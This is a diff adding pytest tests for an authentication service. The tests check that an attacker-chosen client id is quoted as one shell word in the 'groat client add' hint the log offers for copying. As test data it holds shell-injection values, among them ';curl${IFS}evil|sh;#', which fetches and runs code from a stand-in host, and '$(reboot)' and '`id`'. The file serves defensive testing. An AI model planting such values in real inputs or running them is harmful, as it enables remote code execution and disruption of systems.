@@ -1,5 +1,6 @@
 """AS-CA-19 to 24, A17, A18: the one appearance of every refusal, and clients as they change."""
 
+import shlex
 from typing import Any
 
 import pytest
@@ -176,3 +177,42 @@ def test_unknown_clients_are_checked_against_a_decoy(lab: Lab, alg: str) -> None
     key = private_key(RSA_PAIR, alg) if alg in ("RS256", "PS256") else generate_private_key(alg)
     refused(lab, Party("nobody", key).assertion(), "client_unknown")
     check_ec(lab.post(base(Party("nobody", key).assertion()), FORM))
+
+
+# ST-13: what the log offers for copying
+
+EVIL = ";curl${IFS}evil|sh;#"
+
+
+def offered(hint: str) -> list[str]:
+    """The words that a shell would read from `groat` on; operators of the shell come out as words of their own."""
+    lexer = shlex.shlex(hint[hint.rindex("groat ") :], posix=True, punctuation_chars=True)
+    lexer.whitespace_split = True
+    return list(lexer)
+
+
+@pytest.mark.rule("ST-13")
+@pytest.mark.parametrize("name", [EVIL, "$(reboot)", "a&b", "a'b", "--yes", "`id`"])
+def test_a_stranger_types_nothing_into_an_operators_shell(lab: Lab, name: str) -> None:
+    """The id of an assertion is anybody's choice; in the command that the log offers it is one word."""
+    answer = lab.ask(Party(name).assertion())
+    check_ec(answer)
+    words = offered(lab.event(answer)["hint"])
+    assert (words[:3], words.count(name)) == (["groat", "client", "add"], 1)
+    assert name != "--yes" or words[words.index(name) - 1] == "--"
+
+
+@pytest.mark.rule("ST-13")
+def test_an_odd_id_that_is_registered_stays_one_word(lab: Lab) -> None:
+    """Wrong key, another audience, too long a life, no such scope, disabled: each hint can be copied."""
+    party = lab.add_client(EVIL)
+    asked = [
+        lab.ask(Party(EVIL).assertion()),
+        lab.ask(party.assertion(aud="https://elsewhere.example.com")),
+        lab.ask(party.assertion(exp=NOW + 3000)),
+        lab.ask(party.assertion(), scope="orders:none"),
+    ]
+    lab.operate(lambda op: operations.enable_client(op, EVIL, enabled=False))
+    asked.append(lab.ask(party.assertion()))
+    for answer in asked:
+        assert offered(lab.event(answer)["hint"]).count(EVIL) == 1
